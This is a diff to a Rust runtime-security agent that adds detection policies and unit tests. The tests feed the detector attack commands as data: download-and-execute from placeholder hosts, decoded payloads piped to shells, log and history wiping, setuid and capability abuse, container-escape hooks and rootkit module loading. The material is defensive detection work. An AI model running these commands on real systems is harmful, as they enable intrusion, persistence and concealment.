@@ -38,6 +38,34 @@ pub const DEFAULT_FILES: &[(&str, &str)] = &[
         include_str!("../../../policies/cloud-metadata.yaml"),
     ),
     (
+        "policies/download-execute.yaml",
+        include_str!("../../../policies/download-execute.yaml"),
+    ),
+    (
+        "policies/user-persistence.yaml",
+        include_str!("../../../policies/user-persistence.yaml"),
+    ),
+    (
+        "policies/privilege-escalation.yaml",
+        include_str!("../../../policies/privilege-escalation.yaml"),
+    ),
+    (
+        "policies/defense-evasion.yaml",
+        include_str!("../../../policies/defense-evasion.yaml"),
+    ),
+    (
+        "policies/process-memory.yaml",
+        include_str!("../../../policies/process-memory.yaml"),
+    ),
+    (
+        "policies/container-escape.yaml",
+        include_str!("../../../policies/container-escape.yaml"),
+    ),
+    (
+        "policies/kernel-modules.yaml",
+        include_str!("../../../policies/kernel-modules.yaml"),
+    ),
+    (
         "policies/sql-injection.yaml",
         include_str!("../../../policies/sql-injection.yaml"),
     ),
@@ -235,13 +263,14 @@ mod tests {
             ],
             &["/usr/sbin/apache2"],
         ));
-        only(
-            exec(
+        // COPY ... FROM PROGRAM fetching a stager: both the shell and the download-execute.
+        assert_eq!(
+            fired(&exec(
                 "/usr/bin/dash",
                 &["sh", "-c", "curl http://x/a.sh | sh"],
                 &["/usr/lib/postgresql/16/bin/postgres"],
-            ),
-            "shell-from-database",
+            )),
+            ["shell-from-database", "download-piped-to-shell"]
         );
         none(exec(
             "/usr/bin/dash",
@@ -749,6 +778,980 @@ mod tests {
         none(agent);
         none(connect("/usr/local/bin/app", "169.254.169.254:80"));
         none(in_container(connect("/usr/bin/curl", "10.0.0.1:80")));
+    }
+
+    /// A shell running `cmd` through `-c`, below an SSH login.
+    fn sh_c(cmd: &str) -> Ev {
+        exec(
+            "/usr/bin/dash",
+            &["sh", "-c", cmd],
+            &["/usr/bin/bash", "/usr/sbin/sshd"],
+        )
+    }
+
+    #[test]
+    fn download_and_decode_then_execute() {
+        only(
+            sh_c("curl -fsSL http://203.0.113.7/i.sh | sh"),
+            "download-piped-to-shell",
+        );
+        only(
+            sh_c("wget -qO- http://x/i | sudo /bin/bash -s -- -y"),
+            "download-piped-to-shell",
+        );
+        only(
+            sh_c("curl -s http://x/p.py | python3 -"),
+            "download-piped-to-shell",
+        );
+        none(sh_c("curl -fsSL https://x/v1.tgz | tar xz -C /opt"));
+        none(sh_c("curl -fsSL https://x/f | sha256sum -c sums"));
+        none(sh_c("curl -s https://api/x | python3 -m json.tool"));
+        none(sh_c("curl -s https://x/i | ssh host 'cat > i'"));
+        only(
+            exec(
+                "/usr/bin/bash",
+                &["bash", "-c", "$(curl -fsSL https://x/install.sh)"],
+                &["/usr/bin/bash"],
+            ),
+            "download-substituted-into-shell",
+        );
+        only(
+            sh_c("bash <(wget -qO- http://x/i)"),
+            "download-substituted-into-shell",
+        );
+        none(sh_c("v=$(curl -s http://localhost:8080/health); echo $v"));
+        only(
+            sh_c("echo Y3VybCBodHRwOi8veA== | base64 -d | bash"),
+            "decoded-payload-to-shell",
+        );
+        only(
+            sh_c("echo 6964 | xxd -r -p | sh"),
+            "decoded-payload-to-shell",
+        );
+        none(sh_c("echo aGk= | base64 -d > /var/lib/app/blob"));
+        none(sh_c("echo aGk= | base64 | sha1sum"));
+        only(
+            sh_c("eval \"$(echo aWQ= | base64 --decode)\""),
+            "decoded-payload-substituted-into-shell",
+        );
+        only(
+            exec(
+                "/usr/bin/python3.11",
+                &[
+                    "python3",
+                    "-c",
+                    "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "interpreter-inline-fetch-or-decode",
+        );
+        only(
+            exec(
+                "/usr/bin/python3.11",
+                &[
+                    "python3",
+                    "-c",
+                    "import urllib.request as u;exec(u.urlopen('http://x/s').read())",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "interpreter-inline-fetch-or-decode",
+        );
+        only(
+            exec(
+                "/usr/bin/perl",
+                &[
+                    "perl",
+                    "-MMIME::Base64",
+                    "-e",
+                    "eval decode_base64('cHJpbnQ=')",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "interpreter-inline-fetch-or-decode",
+        );
+        none(exec(
+            "/usr/bin/python3.11",
+            &["python3", "-c", "import sys; print(sys.version)"],
+            &["/usr/bin/bash"],
+        ));
+        // pip's legacy setup.py shim.
+        none(exec(
+            "/usr/bin/python3.11",
+            &[
+                "/usr/bin/python3",
+                "-c",
+                "import io, os, sys, setuptools, tokenize; sys.argv[0] = '/tmp/pip-install-x/p/setup.py'; exec(compile(code, __file__, 'exec'))",
+                "install",
+            ],
+            &["/usr/bin/python3.11", "/usr/bin/bash"],
+        ));
+        // Encoding is not decoding.
+        none(exec(
+            "/usr/bin/python3.11",
+            &[
+                "python3",
+                "-c",
+                "import base64; print(base64.b64encode(b'x'))",
+            ],
+            &["/usr/bin/bash"],
+        ));
+    }
+
+    #[test]
+    fn scripts_run_from_writable_dirs() {
+        only(
+            exec("/usr/bin/dash", &["sh", "/tmp/x"], &["/usr/bin/bash"]),
+            "script-from-writable-dir",
+        );
+        only(
+            exec(
+                "/usr/bin/bash",
+                &["bash", "/dev/shm/.s"],
+                &["/usr/bin/bash"],
+            ),
+            "script-from-writable-dir",
+        );
+        only(
+            exec(
+                "/usr/bin/python3.11",
+                &["/usr/bin/python3", "-u", "/var/tmp/x.py"],
+                &["/usr/bin/bash"],
+            ),
+            "script-from-writable-dir",
+        );
+        only(
+            exec("/usr/bin/perl", &["perl", "/var/tmp/x"], &["/usr/bin/bash"]),
+            "script-from-writable-dir",
+        );
+        // A #! script in /tmp executed directly: the kernel runs `interpreter script`.
+        only(
+            exec(
+                "/usr/bin/dash",
+                &["/bin/sh", "/tmp/run.sh", "a"],
+                &["/usr/bin/bash"],
+            ),
+            "script-from-writable-dir",
+        );
+        only(
+            exec(
+                "/usr/bin/bash",
+                &["bash", "/run/user/1000/x"],
+                &["/usr/bin/bash"],
+            ),
+            "script-from-writable-dir",
+        );
+        // pytest in /tmp: the script is /usr/bin/pytest, /tmp is only an argument.
+        none(exec(
+            "/usr/bin/python3.11",
+            &["/usr/bin/python3", "/usr/bin/pytest", "/tmp/proj/tests"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/python3.11",
+            &["python3", "-m", "pytest", "/tmp/proj"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/python3.11",
+            &[
+                "/usr/bin/python3.11",
+                "/tmp/pytest-of-root/pytest-0/test_a0/h.py",
+            ],
+            &["/usr/bin/python3.11", "/usr/bin/bash"],
+        ));
+        // The same path below a shell, not pytest: an intruder borrowing the name.
+        only(
+            exec(
+                "/usr/bin/python3.11",
+                &["python3", "/tmp/pytest-of-root/x.py"],
+                &["/usr/bin/bash"],
+            ),
+            "script-from-writable-dir",
+        );
+        // A virtualenv in /tmp: its console scripts run through the venv's interpreter.
+        none(exec(
+            "/usr/bin/python3.11",
+            &[
+                "/tmp/b/venv/bin/python3",
+                "/tmp/b/venv/bin/pytest",
+                "-q",
+                "/tmp/b/proj",
+            ],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/python3.11",
+            &[
+                "/tmp/b/venv/bin/python3",
+                "/tmp/b/venv/bin/pip",
+                "install",
+                "pytest",
+            ],
+            &["/usr/bin/bash"],
+        ));
+        none(sh_c("cat /tmp/build.log | grep error"));
+        none(exec(
+            "/usr/bin/dash",
+            &["sh", "/usr/share/x/run.sh"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/bash",
+            &["bash", "-c", "ls /tmp/x"],
+            &["/usr/bin/bash"],
+        ));
+    }
+
+    #[test]
+    fn user_startup_file_persistence() {
+        let wca = W | Access::CREATE;
+        only(
+            open("/usr/bin/bash", "/root/.bashrc", W),
+            "write-user-startup-file",
+        );
+        only(
+            open("/usr/bin/dash", "/home/alice/.profile", wca),
+            "write-user-startup-file",
+        );
+        only(
+            open("/usr/bin/tee", "/tmp/h/.bash_logout", W),
+            "write-user-startup-file",
+        );
+        only(
+            open(
+                "/usr/bin/cp",
+                "/home/alice/.config/autostart/updater.desktop",
+                W | Access::CREATE,
+            ),
+            "write-user-startup-file",
+        );
+        only(
+            open(
+                "/usr/bin/cp",
+                "/root/.config/systemd/user/sync.service",
+                W | Access::CREATE,
+            ),
+            "write-user-startup-file",
+        );
+        only(
+            open(
+                "/usr/bin/vim.basic",
+                "/home/alice/.zshrc",
+                W | Access::TRUNCATE,
+            ),
+            "edit-user-startup-file",
+        );
+        // A program named like an editor somewhere else is not the editor.
+        only(
+            open("/tmp/vim.basic", "/home/alice/.zshrc", W),
+            "write-user-startup-file",
+        );
+        // Shells reading their rc files; package managers installing /etc/skel; useradd -m.
+        none(open("/usr/bin/bash", "/root/.bashrc", Access::READ));
+        let mut skel = open(
+            "/usr/bin/dpkg",
+            "/etc/skel/.bashrc.dpkg-new",
+            W | Access::CREATE,
+        );
+        skel.ancestors = vec!["/usr/bin/apt-get", "/usr/bin/bash"];
+        none(skel);
+        none(open(
+            "/usr/sbin/useradd",
+            "/home/bob/.bashrc",
+            W | Access::CREATE,
+        ));
+        none(open("/usr/bin/bash", "/home/alice/.bash_history", W));
+    }
+
+    #[test]
+    fn privilege_escalation_by_file_mode() {
+        for mode in ["u+s", "+s", "g+s", "u+xs", "a+rwxs", "u=rwxs", "u+x,g+s"] {
+            only(
+                exec(
+                    "/usr/bin/chmod",
+                    &["chmod", mode, "/tmp/sh"],
+                    &["/usr/bin/bash"],
+                ),
+                "setuid-bit-set",
+            );
+        }
+        for mode in ["4755", "6755", "2755", "04755"] {
+            only(
+                exec(
+                    "/usr/bin/chmod",
+                    &["chmod", mode, "/tmp/sh"],
+                    &["/usr/bin/bash"],
+                ),
+                "setuid-bit-set-octal",
+            );
+        }
+        only(
+            exec(
+                "/usr/bin/chmod",
+                &["chmod", "-R", "4755", "/tmp/d"],
+                &["/usr/bin/bash"],
+            ),
+            "setuid-bit-set-octal",
+        );
+        only(
+            exec(
+                "/usr/bin/install",
+                &["install", "-m", "4755", "/bin/bash", "/var/tmp/b"],
+                &["/usr/bin/bash"],
+            ),
+            "setuid-bit-set-octal",
+        );
+        for mode in ["755", "0644", "g+w", "u+x", "a-s", "u-s"] {
+            none(exec(
+                "/usr/bin/chmod",
+                &["chmod", mode, "/srv/x"],
+                &["/usr/bin/bash"],
+            ));
+        }
+        // A file (not a mode) named like an octal number.
+        none(exec(
+            "/usr/bin/chmod",
+            &["chmod", "644", "2023", "4755"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/install",
+            &["install", "-m", "0755", "-d", "/opt/x"],
+            &["/usr/bin/bash"],
+        ));
+        let mut postinst = exec("/usr/bin/chmod", &["chmod", "u+s", "/usr/bin/x"], &[]);
+        postinst.ancestors = vec!["/usr/bin/dash", "/usr/bin/dpkg", "/usr/bin/apt-get"];
+        none(postinst);
+        // dpkg renamed into /tmp does not buy the exception.
+        only(
+            exec(
+                "/usr/bin/chmod",
+                &["chmod", "u+s", "/tmp/sh"],
+                &["/usr/bin/dash", "/tmp/dpkg"],
+            ),
+            "setuid-bit-set",
+        );
+        only(
+            exec(
+                "/usr/sbin/setcap",
+                &["setcap", "cap_setuid+ep", "/tmp/python3"],
+                &["/usr/bin/bash"],
+            ),
+            "file-capability-set",
+        );
+        only(
+            exec(
+                "/usr/sbin/setcap",
+                &["setcap", "cap_net_bind_service,cap_net_raw=eip", "/opt/x"],
+                &["/usr/bin/bash"],
+            ),
+            "file-capability-set",
+        );
+        none(exec(
+            "/usr/sbin/setcap",
+            &["setcap", "-r", "/opt/x"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/sbin/getcap",
+            &["getcap", "/usr/bin/ping"],
+            &["/usr/bin/bash"],
+        ));
+        let mut ping = exec(
+            "/usr/sbin/setcap",
+            &["setcap", "cap_net_raw+ep", "/bin/ping"],
+            &[],
+        );
+        ping.ancestors = vec!["/usr/bin/dash", "/usr/bin/dpkg"];
+        none(ping);
+    }
+
+    #[test]
+    fn defense_evasion() {
+        only(
+            exec(
+                "/usr/bin/ln",
+                &["ln", "-sf", "/dev/null", "/root/.bash_history"],
+                &["/usr/bin/bash"],
+            ),
+            "shell-history-tampering",
+        );
+        only(
+            exec(
+                "/usr/bin/rm",
+                &["rm", "-f", ".bash_history"],
+                &["/usr/bin/bash"],
+            ),
+            "shell-history-tampering",
+        );
+        only(
+            exec(
+                "/usr/bin/shred",
+                &["shred", "-u", "/home/a/.zsh_history"],
+                &["/usr/bin/bash"],
+            ),
+            "shell-history-tampering",
+        );
+        none(exec(
+            "/usr/bin/rm",
+            &["rm", "-f", "/home/a/notes.txt"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/cat",
+            &["cat", "/root/.bash_history"],
+            &["/usr/bin/bash"],
+        ));
+        only(sh_c("unset HISTFILE; id"), "shell-history-disabled");
+        only(
+            sh_c("export HISTFILE=/dev/null; curl -s http://x"),
+            "shell-history-disabled",
+        );
+        none(sh_c("echo $HISTFILE"));
+        let mut wipe = open("/usr/bin/dash", "/root/.bash_history", W | Access::TRUNCATE);
+        wipe.argv = vec![
+            "sh".into(),
+            "-c".into(),
+            "cat /dev/null > ~/.bash_history".into(),
+        ];
+        only(wipe, "shell-history-truncated-by-command");
+        // An interactive bash rewriting its own history at exit.
+        let mut own = open("/usr/bin/bash", "/root/.bash_history", W | Access::TRUNCATE);
+        own.argv = vec!["-bash".into()];
+        none(own);
+        only(
+            exec(
+                "/usr/bin/rm",
+                &["rm", "-f", "/var/log/auth.log"],
+                &["/usr/bin/bash"],
+            ),
+            "log-deleted-or-truncated",
+        );
+        only(
+            exec(
+                "/usr/bin/truncate",
+                &["truncate", "-s", "0", "/var/log/wtmp"],
+                &["/usr/bin/bash"],
+            ),
+            "log-deleted-or-truncated",
+        );
+        none(exec(
+            "/usr/bin/rm",
+            &["rm", "/var/lib/app/cache"],
+            &["/usr/bin/bash"],
+        ));
+        only(
+            open("/usr/bin/dash", "/var/log/auth.log", W | Access::TRUNCATE),
+            "log-truncated-on-open",
+        );
+        none(open(
+            "/usr/sbin/logrotate",
+            "/var/log/syslog",
+            W | Access::TRUNCATE,
+        ));
+        none(open(
+            "/usr/sbin/rsyslogd",
+            "/var/log/syslog",
+            W | Access::CREATE,
+        ));
+        none(open(
+            "/usr/bin/dash",
+            "/var/log/app/app.log",
+            W | Access::CREATE,
+        ));
+        let mut apt = open("/usr/bin/dpkg", "/var/log/dpkg.log", W | Access::TRUNCATE);
+        apt.ancestors = vec!["/usr/bin/apt-get"];
+        none(apt);
+        only(
+            exec(
+                "/usr/bin/touch",
+                &["touch", "-r", "/bin/ls", "/usr/local/bin/x"],
+                &["/usr/bin/bash"],
+            ),
+            "timestamp-forged",
+        );
+        only(
+            exec(
+                "/usr/bin/touch",
+                &["touch", "-acmt", "202001010000", "/etc/x"],
+                &["/usr/bin/bash"],
+            ),
+            "timestamp-forged",
+        );
+        only(
+            exec(
+                "/usr/bin/touch",
+                &["touch", "--date=2019-01-01", "/tmp/x"],
+                &["/usr/bin/bash"],
+            ),
+            "timestamp-forged",
+        );
+        none(exec(
+            "/usr/bin/touch",
+            &["touch", "/tmp/stamp"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/touch",
+            &["touch", "-r", "configure.ac", "aclocal.m4"],
+            &["/usr/bin/dash", "/usr/bin/make"],
+        ));
+        only(
+            exec(
+                "/usr/sbin/auditctl",
+                &["auditctl", "-e", "0"],
+                &["/usr/bin/bash"],
+            ),
+            "audit-disabled",
+        );
+        only(
+            exec(
+                "/usr/sbin/auditctl",
+                &["auditctl", "-D"],
+                &["/usr/bin/bash"],
+            ),
+            "audit-disabled",
+        );
+        only(
+            exec(
+                "/usr/bin/systemctl",
+                &["systemctl", "stop", "rasp-agent"],
+                &["/usr/bin/bash"],
+            ),
+            "audit-disabled",
+        );
+        none(exec(
+            "/usr/sbin/auditctl",
+            &["auditctl", "-l"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/systemctl",
+            &["systemctl", "restart", "nginx"],
+            &["/usr/bin/bash"],
+        ));
+        only(
+            open(
+                "/usr/bin/dash",
+                "/var/lib/rasp/journal/0001.jsonl",
+                W | Access::TRUNCATE,
+            ),
+            "audit-or-agent-state-tampering",
+        );
+        only(
+            open("/usr/bin/vim.basic", "/etc/audit/rules.d/audit.rules", W),
+            "audit-or-agent-state-tampering",
+        );
+        none(open(
+            "/usr/sbin/auditd",
+            "/var/log/audit/audit.log",
+            W | Access::CREATE,
+        ));
+        none(open("/usr/bin/cat", "/etc/audit/auditd.conf", Access::READ));
+    }
+
+    #[test]
+    fn process_memory_access() {
+        only(
+            open("/usr/bin/dd", "/proc/812/mem", Access::READ),
+            "read-process-memory-file",
+        );
+        only(
+            open(
+                "/usr/bin/python3.11",
+                "/proc/812/task/812/mem",
+                Access::READ,
+            ),
+            "read-process-memory-file",
+        );
+        none(open(
+            "/usr/lib/jvm/bin/java",
+            "/proc/self/mem",
+            Access::READ,
+        ));
+        only(
+            exec(
+                "/usr/bin/cat",
+                &["cat", "/proc/812/maps"],
+                &["/usr/bin/bash"],
+            ),
+            "read-process-maps-by-tool",
+        );
+        only(
+            sh_c("for p in $(pgrep sshd); do grep rw-p /proc/$p/maps; done"),
+            "read-process-maps-by-tool",
+        );
+        none(exec(
+            "/usr/bin/cat",
+            &["cat", "/proc/self/maps"],
+            &["/usr/bin/bash"],
+        ));
+        // glibc programs read their own map (reported as /proc/<pid>/maps): no rule's.
+        none(open("/usr/bin/grep", "/proc/812/maps", Access::READ));
+        none(open("/usr/bin/cat", "/proc/812/status", Access::READ));
+        only(
+            exec(
+                "/usr/bin/gdb",
+                &["gdb", "-p", "812", "-batch"],
+                &["/usr/bin/bash"],
+            ),
+            "debugger-attached-to-process",
+        );
+        only(
+            exec(
+                "/usr/bin/strace",
+                &["strace", "-fp", "812"],
+                &["/usr/bin/bash"],
+            ),
+            "debugger-attached-to-process",
+        );
+        only(
+            exec(
+                "/usr/bin/ltrace",
+                &["ltrace", "-p", "812"],
+                &["/usr/bin/bash"],
+            ),
+            "debugger-attached-to-process",
+        );
+        none(exec(
+            "/usr/bin/strace",
+            &["strace", "-f", "ls"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/gdb",
+            &["gdb", "./a.out"],
+            &["/usr/bin/bash"],
+        ));
+        only(
+            with_comm(
+                exec(
+                    "/usr/bin/dash",
+                    &["/bin/sh", "/usr/bin/gcore", "812"],
+                    &["/usr/bin/bash"],
+                ),
+                "gcore",
+            ),
+            "process-memory-dump-tool",
+        );
+        only(
+            exec(
+                "/usr/bin/dd",
+                &["dd", "if=/proc/812/mem", "bs=1", "skip=4096", "count=64"],
+                &["/usr/bin/bash"],
+            ),
+            "process-memory-dump-tool",
+        );
+        none(exec(
+            "/usr/bin/grep",
+            &["grep", "x", "/proc/1/status", "/proc/meminfo"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/cat",
+            &["cat", "/proc/meminfo"],
+            &["/usr/bin/bash"],
+        ));
+    }
+
+    #[test]
+    fn container_and_namespace_escape() {
+        only(
+            in_container(exec(
+                "/usr/bin/nsenter",
+                &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"],
+                &["/usr/bin/bash"],
+            )),
+            "nsenter-into-init-namespaces",
+        );
+        only(
+            exec(
+                "/usr/bin/nsenter",
+                &["nsenter", "--target", "1", "--mount", "--", "id"],
+                &["/usr/bin/bash"],
+            ),
+            "nsenter-into-init-namespaces",
+        );
+        only(
+            exec(
+                "/usr/bin/nsenter",
+                &["nsenter", "-at", "1", "id"],
+                &["/usr/bin/bash"],
+            ),
+            "nsenter-into-init-namespaces",
+        );
+        none(exec(
+            "/usr/bin/nsenter",
+            &["nsenter", "-t", "1234", "-n", "ip", "a"],
+            &["/usr/bin/bash"],
+        ));
+        let mut userns = exec(
+            "/usr/bin/unshare",
+            &["unshare", "-r", "-m", "sh"],
+            &["/usr/bin/bash"],
+        );
+        userns.uid = 1000;
+        only(userns, "unshare-user-namespace-by-user");
+        none(exec(
+            "/usr/bin/unshare",
+            &["unshare", "-r", "id"],
+            &["/usr/bin/bash"],
+        ));
+        let mut netns = exec(
+            "/usr/bin/unshare",
+            &["unshare", "-n", "id"],
+            &["/usr/bin/bash"],
+        );
+        netns.uid = 1000;
+        none(netns);
+        only(
+            in_container(exec(
+                "/usr/bin/mount",
+                &["mount", "/dev/sda1", "/mnt"],
+                &["/usr/bin/bash"],
+            )),
+            "mount-host-device-in-container",
+        );
+        only(
+            in_container(exec(
+                "/usr/bin/mount",
+                &["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/c"],
+                &["/usr/bin/bash"],
+            )),
+            "mount-host-device-in-container",
+        );
+        none(exec(
+            "/usr/bin/mount",
+            &["mount", "/dev/nvme1n1p1", "/data"],
+            &["/usr/bin/bash"],
+        ));
+        none(in_container(exec(
+            "/usr/bin/mount",
+            &["mount", "-t", "tmpfs", "tmpfs", "/scratch"],
+            &["/usr/bin/bash"],
+        )));
+        only(
+            open("/usr/bin/dash", "/proc/sys/kernel/core_pattern", W),
+            "write-kernel-escape-hook",
+        );
+        only(
+            in_container(open(
+                "/usr/bin/dash",
+                "/sys/fs/cgroup/rdma/release_agent",
+                W,
+            )),
+            "write-kernel-escape-hook",
+        );
+        none(open(
+            "/usr/lib/systemd/systemd-sysctl",
+            "/proc/sys/kernel/core_pattern",
+            W,
+        ));
+        none(open(
+            "/usr/bin/cat",
+            "/proc/sys/kernel/core_pattern",
+            Access::READ,
+        ));
+        only(
+            exec(
+                "/usr/bin/curl",
+                &[
+                    "curl",
+                    "-s",
+                    "--unix-socket",
+                    "/var/run/docker.sock",
+                    "http://localhost/containers/json",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "container-runtime-socket-by-tool",
+        );
+        only(
+            in_container(exec(
+                "/usr/bin/docker",
+                &["docker", "-H", "unix:///var/run/docker.sock", "ps"],
+                &["/usr/bin/bash"],
+            )),
+            "container-runtime-socket-in-container",
+        );
+        none(exec(
+            "/usr/bin/crictl",
+            &[
+                "crictl",
+                "--runtime-endpoint",
+                "unix:///run/containerd/containerd.sock",
+                "ps",
+            ],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/curl",
+            &["curl", "--unix-socket", "/run/app/api.sock", "http://x/"],
+            &["/usr/bin/bash"],
+        ));
+        only(
+            open(
+                "/usr/bin/python3.11",
+                "/var/run/docker.sock",
+                Access::READ | W,
+            ),
+            "container-runtime-socket-opened",
+        );
+        none(open(
+            "/usr/bin/dockerd",
+            "/var/run/docker.sock",
+            Access::READ | W,
+        ));
+    }
+
+    #[test]
+    fn kernel_module_loading() {
+        only(
+            with_comm(
+                exec(
+                    "/usr/bin/kmod",
+                    &["insmod", "/tmp/rk.ko"],
+                    &["/usr/bin/bash"],
+                ),
+                "insmod",
+            ),
+            "kernel-module-insert",
+        );
+        only(
+            with_comm(
+                exec(
+                    "/usr/bin/kmod",
+                    &["modprobe", "diamorphine"],
+                    &["/usr/bin/bash"],
+                ),
+                "modprobe",
+            ),
+            "kernel-module-insert",
+        );
+        only(
+            with_comm(
+                exec("/usr/bin/kmod", &["rmmod", "apparmor"], &["/usr/bin/bash"]),
+                "rmmod",
+            ),
+            "kernel-module-remove",
+        );
+        only(
+            with_comm(
+                exec(
+                    "/usr/bin/kmod",
+                    &["modprobe", "-r", "x"],
+                    &["/usr/bin/bash"],
+                ),
+                "modprobe",
+            ),
+            "kernel-module-remove",
+        );
+        none(with_comm(
+            exec(
+                "/usr/bin/kmod",
+                &["modprobe", "--show-depends", "ext4"],
+                &["/usr/bin/bash"],
+            ),
+            "modprobe",
+        ));
+        none(with_comm(
+            exec(
+                "/usr/bin/kmod",
+                &["/sbin/modprobe", "-q", "--", "net-pf-38"],
+                &[],
+            ),
+            "modprobe",
+        ));
+        none(with_comm(
+            exec(
+                "/usr/bin/kmod",
+                &["modprobe", "br_netfilter"],
+                &["/usr/bin/dockerd", "/usr/lib/systemd/systemd"],
+            ),
+            "modprobe",
+        ));
+        none(with_comm(
+            exec(
+                "/usr/bin/kmod",
+                &["modprobe", "-ab", "loop"],
+                &["/usr/lib/systemd/systemd-modules-load"],
+            ),
+            "modprobe",
+        ));
+        none(with_comm(
+            exec("/usr/bin/kmod", &["lsmod"], &["/usr/bin/bash"]),
+            "lsmod",
+        ));
+    }
+
+    #[test]
+    fn package_installs_read_shadow_quietly() {
+        // debconf's preconfigure step of `apt-get install` (seen on this host).
+        let mut debconf = with_comm(
+            open("/usr/bin/perl", "/etc/shadow", Access::READ),
+            "dpkg-preconfigu",
+        );
+        debconf.ancestors = vec!["/usr/bin/dash", "/usr/bin/apt-get", "/usr/bin/bash"];
+        none(debconf);
+        let mut fake = open("/usr/bin/perl", "/etc/shadow", Access::READ);
+        fake.ancestors = vec!["/usr/bin/dash", "/tmp/apt-get", "/usr/bin/bash"];
+        only(fake, "read-shadow-file");
+    }
+
+    #[test]
+    fn exceptions_are_anchored_to_installed_paths() {
+        // A payload whose parent was renamed after a build tool.
+        only(
+            exec("/tmp/x", &[], &["/tmp/make", "/usr/bin/bash"]),
+            "exec-from-tmp",
+        );
+        none(exec(
+            "/tmp/cc-build/a.out",
+            &[],
+            &["/usr/bin/make", "/usr/bin/bash"],
+        ));
+        // A program named crontab or dpkg somewhere else.
+        only(
+            open("/tmp/crontab", "/var/spool/cron/crontabs/root", W),
+            "write-persistence-location",
+        );
+        let mut fake_dpkg = open("/usr/bin/sed", "/etc/cron.d/x", W | Access::CREATE);
+        fake_dpkg.ancestors = vec!["/dev/shm/dpkg", "/usr/bin/bash"];
+        only(fake_dpkg, "write-persistence-location");
+        // A script named pip: comm says pip, argv[1] says where the script really is.
+        let mut fake_pip = with_comm(
+            open(
+                "/usr/bin/python3.11",
+                "/usr/local/bin/ls",
+                W | Access::CREATE,
+            ),
+            "pip",
+        );
+        fake_pip.argv = vec!["/usr/bin/python3".into(), "/tmp/pip".into()];
+        only(fake_pip, "write-below-binary-dirs");
+        let mut real_pip = with_comm(
+            open(
+                "/usr/bin/python3.11",
+                "/usr/local/lib/python3.11/dist-packages/x/__init__.py",
+                W | Access::CREATE,
+            ),
+            "pip",
+        );
+        real_pip.argv = vec![
+            "/usr/bin/python3".into(),
+            "/usr/bin/pip".into(),
+            "install".into(),
+            "x".into(),
+        ];
+        none(real_pip);
+        // A JVM unpacking its native libraries, and a fake one in /tmp.
+        none(load(
+            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
+            "/tmp/libnetty_transport_native_epoll_x86_6412.so",
+        ));
+        only(load("/tmp/java", "/tmp/libx.so"), "library-load-from-tmp");
     }
 
     #[test]
